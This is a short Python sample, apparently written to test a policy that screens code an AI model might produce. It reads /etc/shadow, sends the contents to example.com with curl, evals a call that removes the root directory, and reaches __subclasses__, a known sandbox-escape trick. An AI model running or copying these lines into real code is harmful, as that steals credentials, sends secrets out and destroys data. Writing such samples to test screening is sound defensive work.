# What a careless or hostile model might write. Nothing of it runs: the policy reads the program first, names every
# line it will not have, and says what to use instead.
import os
import subprocess

key = open("/etc/shadow").read()
subprocess.run(["curl", "-d", key, "https://example.com"])
eval("os.remove('/')")
().__class__.__base__.__subclasses__()
